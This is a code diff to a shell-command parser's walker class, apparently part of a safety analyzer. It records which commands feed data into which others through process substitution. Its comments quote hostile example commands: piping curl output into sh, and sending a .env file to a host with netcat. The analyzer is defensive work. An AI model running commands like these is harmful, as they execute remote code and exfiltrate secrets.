@@ -650,7 +650,11 @@ class _Walker:
         fd = self.text(fd_node) if fd_node is not None else ""
         if dest is not None and dest.type == "process_substitution" and op == "<" and fd in ("", "0"):
             # `sh < <(curl …)`: what those commands print is this program's stdin
-            target.upstream.extend(d.argv[0] for d in self.drafts[before:] if d.argv and d is not target)
+            feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
+            target.upstream.extend(d.argv[0] for d in feeders)
+            if target.argv:
+                for d in feeders:  # (and it is what they feed: `nc h 80 < <(cat .env)`)
+                    d.downstream.append(target.argv[0])
             if path in self.procsubs and target.stdin_text is None:
                 target.stdin_text = self.procsubs[path]
                 self.feed(target, target.stdin_text, depth)
